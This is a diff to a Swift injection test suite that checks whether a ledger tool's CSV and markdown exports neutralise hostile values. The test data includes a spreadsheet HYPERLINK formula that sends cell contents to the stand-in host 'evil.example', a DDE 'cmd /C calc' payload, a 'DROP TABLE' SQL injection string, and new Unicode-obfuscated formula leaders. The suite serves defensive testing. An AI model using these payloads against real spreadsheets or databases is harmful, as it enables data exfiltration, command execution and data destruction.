@@ -10,6 +10,8 @@ struct InjectionTests {
         #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1", "-2", "@SUM(A1:A9)",
         "org|pipe|inj", "org\ninj newline", "'; DROP TABLE response_records; --", "\tinj tab", "\rinj cr",
         #"org_inj **bold** <b>x</b> `code` \| escaped"#,
+        // One grapheme, but the first code point is a formula leader (issue 11, item 12).
+        "=\u{301}1+1", "=\u{200D}SUM(A1)", "=\u{FE0F}cmd", "=\u{20DD}x", "+\u{301}1", "@\u{301}x", "\r\ninj crlf",
     ]
     static let hostilePrompt = "=cmd|' /C calc'!A0 | pipe\nnewline"
 
@@ -52,7 +54,7 @@ struct InjectionTests {
         #expect(!markdown.contains("\ninj newline"), "a line break inside a value does not break the report")
 
         let stillThere = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT count(*) FROM response_records"])
-        #expect(stillThere.stdout.contains("20"), "the SQL fragment was data, not SQL")
+        #expect(stillThere.stdout.contains("\(2 * Self.hostileOrgs.count)"), "the SQL fragment was data, not SQL")
     }
 
     @Test(arguments: ["csv", "markdown"])
